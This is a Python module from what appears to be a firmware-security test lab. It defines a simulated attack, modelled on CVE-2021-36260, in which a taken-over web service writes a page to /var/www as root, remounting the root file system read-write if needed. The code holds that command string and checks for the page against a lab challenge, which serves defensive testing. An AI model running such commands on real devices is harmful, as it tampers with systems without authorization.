"""A web server that was taken over, and writes where it has no business: among the programs and pages of the system."""

from firmward.lab.attacks import Attack, Need, Position, Result
from firmward.lab.links import RUNNING
from firmward.lab.means.taken_service import as_root, taken
from firmward.lab.target import Target, Witness

PAGE = "/owned.html"


def run(target: Target) -> Result:
    with taken(target) as service:
        write = f"echo {target.challenge.shell} >/var/www{PAGE}"
        service.run(as_root(f"{write} || {{ mount -o remount,rw / && {write}; }}"))
        target.note(Witness.ATTACKER, f"writes a page of his own to /var/www{PAGE}, mounting / for writing if he must")
        page = service.web.ask(PAGE)
        if page is not None and target.challenge.is_answered(page.text):
            target.note(Witness.NETWORK, f"the device serves {PAGE}, and it answers the challenge")
            return Result.SUCCEEDED
        return service.goes_on(f"{PAGE} is not there")


ATTACK = Attack(
    id="write-outside-sandbox",
    title="A taken-over service writes to the system",
    does="runs code in the web server, and from there writes to the root file system",
    position=Position.SERVICE,
    link=RUNNING,
    case="CVE-2021-36260: code in the web server of Hikvision cameras wrote to their systems",
    foretold=("world-writable", "rootfs-writable", "rootfs-unverified", "setuid-unexpected"),
    run=run,
    needs=(Need.NETWORK, Need.SCRIPT),
)
